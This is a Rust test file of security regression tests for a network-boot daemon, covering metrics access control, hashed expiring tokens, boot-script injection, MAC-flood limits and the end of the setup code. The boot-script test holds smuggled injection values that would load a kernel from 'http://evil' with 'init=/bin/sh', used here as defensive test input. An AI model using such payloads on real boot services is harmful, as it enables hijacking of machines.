//! Known holes of the field (PEERS.md), each shut by a test of its number. Others stand beside the code they are about.

use std::net::IpAddr;
use std::sync::Arc;

use cluster_seed::events::EventKind;
use cluster_seed::ids::{Digest, Mac};
use flight::recorder::WireEvent;
use host::clock::{now, now_ms};
use seedd::app::metrics::{MetricsToken, TOKEN};
use seedd::app::{App, Seed};
use web::api::{ApiError, BootQuery, MachineApi as _, OperatorApi as _};

use crate::support::sites::{Temp, app, site_a, temp};

struct Bench {
    dir: Temp,
    app: Arc<App>,
}

fn bench() -> Bench {
    let dir = temp();
    let site = site_a(&dir);
    Bench { app: app(&site), dir }
}

fn mac(n: u32) -> Mac {
    let [a, b, c, d] = n.to_be_bytes();
    Mac([0x52, 0x54, a, b, c, d])
}

/// 12: nothing about the site without a right to it; the metrics' own right opens nothing else.
#[test]
fn hole_12_metrics_are_for_this_machine_the_planes_and_their_token() {
    let b = bench();
    let seed = Seed(b.app.clone());
    let plane = b.app.spec.spec.networking.planes.values().next().unwrap().value.cidr;
    let ip = |text: &str| text.parse::<IpAddr>().unwrap();
    let node = IpAddr::from(plane.hosts().nth(5).unwrap());
    for (from, may) in [
        (ip("127.0.0.1"), true),
        (ip("::1"), true),
        // Its plane is not up on this seed, so anybody can send from such an address.
        (node, false),
        (ip("10.44.0.100"), false),
        (ip("192.0.2.1"), false),
        (ip("fd00::1"), false),
        (ip("0.0.0.0"), false),
    ] {
        assert_eq!(seed.metrics(from, None).is_ok(), may, "{from}");
        assert_eq!(seed.metrics(from, Some("kdm-guess")).is_ok(), may, "{from} with a guess");
    }
    let text = seed.metrics(ip("127.0.0.1"), None).unwrap();
    assert!(text.contains("kubedos_sealed 1") && text.contains("kubedos_setup_needed 1"));
    assert!(!text.contains(b.app.setup_code().unwrap().as_str()), "no secret is a label");
}

/// 20: tokens are shown once, hashed at rest, scoped, expiring.
#[test]
fn hole_20_the_metrics_token_is_hashed_scoped_and_ends() {
    let b = bench();
    let seed = Seed(b.app.clone());
    let stranger: IpAddr = "192.0.2.1".parse().unwrap();
    let token = "kdm-0123456789abcdef0123456789abcdef";
    let keep = |expires| {
        let kept = MetricsToken { sha256: Digest::of(token.as_bytes()), expires };
        b.app.store.set(TOKEN, &serde_json::to_string(&kept).unwrap()).unwrap();
    };
    keep(now() + 3_600);
    assert!(seed.metrics(stranger, Some(token)).is_ok());
    assert!(matches!(seed.metrics(stranger, Some(&token[..35])), Err(ApiError::Forbidden { .. })));
    assert_eq!(seed.session(token, true).unwrap(), None, "it is no session");
    keep(now());
    assert!(seed.metrics(stranger, Some(token)).is_err(), "its time is over");
    keep(now() + 3_600);
    b.app.store.write(|tx| tx.unset(TOKEN)).unwrap();
    assert!(seed.metrics(stranger, Some(token)).is_err(), "taken away");
    for entry in std::fs::read_dir(b.dir.path.join("site")).unwrap() {
        let path = entry.unwrap().path();
        let bytes = if path.is_file() { std::fs::read(&path).unwrap() } else { Vec::new() };
        assert!(!bytes.windows(token.len()).any(|w| w == token.as_bytes()), "{} holds it", path.display());
    }
}

/// 9: no text from a machine adds a token or a line to a boot script, nor to the log's row about it.
#[test]
fn hole_09_no_text_of_a_machine_adds_a_token_to_its_boot_script() {
    let b = bench();
    let seed = Seed(b.app.clone());
    let from: IpAddr = "10.44.0.100".parse().unwrap();
    let plain = BootQuery { mac: Some(mac(1).to_string()), ..BootQuery::default() };
    let evil = BootQuery {
        arch: Some("x64\nkernel http://evil/ init=/bin/sh\u{202e}".into()),
        uuid: Some("\"; boot http://evil".into()),
        ..plain.clone()
    };
    let [plain, evil] = [&plain, &evil].map(|query| seed.boot_script(from, query).unwrap());
    let shape = |script: &str| script.lines().map(|l| l.split_whitespace().count()).collect::<Vec<_>>();
    assert_eq!(shape(&plain), shape(&evil), "not a token more, nor a line:\n{evil}");
    assert!(!evil.contains("//evil") && !evil.contains("init=") && evil.is_ascii(), "{evil}");
    let rows = b.app.store.read(|tx| tx.events_after(0, 100)).unwrap();
    let told = rows.iter().filter(|e| e.kind == "boot.script").map(|e| e.facts.clone().unwrap());
    assert!(told.clone().count() > 0);
    assert!(told.filter_map(|f| f.arch).all(|a| a.chars().all(|c| c.is_ascii_graphic()) && a.len() <= 16));
    let bad = BootQuery { mac: Some("52:54:00:00:00:01\nboot".into()), ..BootQuery::default() };
    assert!(seed.boot_script(from, &bad).is_err());
}

/// 19: a flood of random MAC addresses, on the wire and by HTTP, neither fills the disk nor hides a machine.
#[test]
fn hole_19_a_flood_of_made_up_machines_is_bounded_and_hides_nobody() {
    let b = bench();
    let seed = Seed(b.app.clone());
    let from: IpAddr = "10.44.0.100".parse().unwrap();
    let held = WireEvent {
        text: "has an address".into(),
        mac: Some(mac(0)),
        ip: Some("10.44.0.150".parse().unwrap()),
        ..WireEvent::new(now_ms(), EventKind::DhcpAck)
    };
    b.app.record(held);
    let flood = (1..=50_000).map(|n| WireEvent {
        text: "asks".into(),
        mac: Some(mac(n)),
        ..WireEvent::new(now_ms(), EventKind::DhcpDiscover)
    });
    let events = b.app.flight.pass(flood.collect());
    b.app.write_wire(&events);
    for n in 60_000..62_000 {
        let query = BootQuery { mac: Some(mac(n).to_string()), ..BootQuery::default() };
        seed.boot_script(from, &query).unwrap();
    }
    let real = WireEvent { text: "asks again".into(), mac: Some(mac(0)), ..WireEvent::new(now_ms(), EventKind::DhcpRequest) };
    b.app.record(real);
    let rows = b.app.store.read(|tx| tx.events_after(0, 10_000)).unwrap();
    assert!(rows.len() < 1_000, "{} rows", rows.len());
    assert_eq!(rows.iter().filter(|e| e.text == "asks again").count(), 1);
    assert!(b.app.view_machines().unwrap().len() < 1_000);
    assert_eq!(b.app.store.read(|tx| tx.broken_event()).unwrap(), None);
    assert!(seed.metrics("127.0.0.1".parse().unwrap(), None).unwrap().contains("kubedos_recorder_suppressed_events_total"));
}

/// 19: the setup code is worth nothing once there is an administrator, whoever made him.
#[test]
fn hole_19_the_setup_code_ends_with_the_first_administrator() {
    let b = bench();
    assert!(b.app.setup_code().is_some() && b.app.view_overview().unwrap().setup_needed);
    // As `seedd admin set` does beside the daemon: in the database, not in its memory.
    b.app.store.write(|tx| tx.add_admin("ada", "hash", now())).unwrap();
    assert!(b.app.setup_code().is_none() && !b.app.view_overview().unwrap().setup_needed);
}
